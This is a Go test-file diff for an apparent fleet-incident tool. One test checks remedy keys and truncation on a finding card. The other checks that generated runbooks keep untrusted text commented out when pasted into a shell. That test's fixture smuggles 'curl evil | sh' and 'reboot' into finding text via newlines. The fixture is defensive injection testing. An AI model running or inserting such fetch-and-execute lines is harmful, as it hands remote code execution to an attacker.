@@ -161,3 +161,41 @@ func TestARowShowsTheWorstBelowIt(t *testing.T) {
 		t.Error("the causes of one snapshot are looked for twice")
 	}
 }
+
+// A key on a card means one remedy; of a remedy for very many things only so many are taken, and the rest is counted.
+func TestRemediesOfOneCardDoNotShareAKey(t *testing.T) {
+	store := incident(t)
+	m := model(t, store, 120, 40)
+	host := fleet.Ref{Kind: fleet.KindHost, Source: "host/openstack-host", Name: "openstack-host"}
+	cause := fleet.Finding{Rule: "MEM-01", About: host, Shown: true, Severity: fleet.Warn, Says: "short", Remedies: []string{"host-swap-on", "swap-on"}}
+	findings := []fleet.Finding{cause}
+	for i := range remedyObjects + 7 {
+		findings = append(findings, fleet.Finding{
+			Rule: "NOVA-01", About: fleet.Ref{Kind: fleet.KindServer, Source: "openstack/home", Name: itoa(i)}, Shown: true, Under: cause.Key(), Remedies: []string{"server-start"},
+		})
+	}
+	m.screen.scene.s = fleet.NewSnapshot(9, m.screen.scene.s.At, nil, nil, findings)
+	all := remediesOf(m, &cause)
+	keys := map[string]bool{}
+	for _, r := range all {
+		if k := r.key(); k != "" && keys[k] {
+			t.Errorf("key %s twice", k)
+		} else {
+			keys[k] = true
+		}
+	}
+	if len(all) != 3 || len(all[2].refs) != remedyObjects || all[2].more != 7 {
+		t.Errorf("got %d remedies: %+v", len(all), all)
+	}
+}
+
+// A name from the world cannot end the comment it stands in when the runbook is pasted into a shell.
+func TestARunbookHasNoLinesFromTheWorld(t *testing.T) {
+	m := model(t, incident(t), 120, 40)
+	text := runbook(m, &fleet.Finding{Says: "mount x\ncurl evil | sh\n is full", Missing: []string{"a\nreboot"}})
+	for line := range strings.Lines(text) {
+		if !strings.HasPrefix(line, "#") {
+			t.Errorf("a line of its own: %q", line)
+		}
+	}
+}
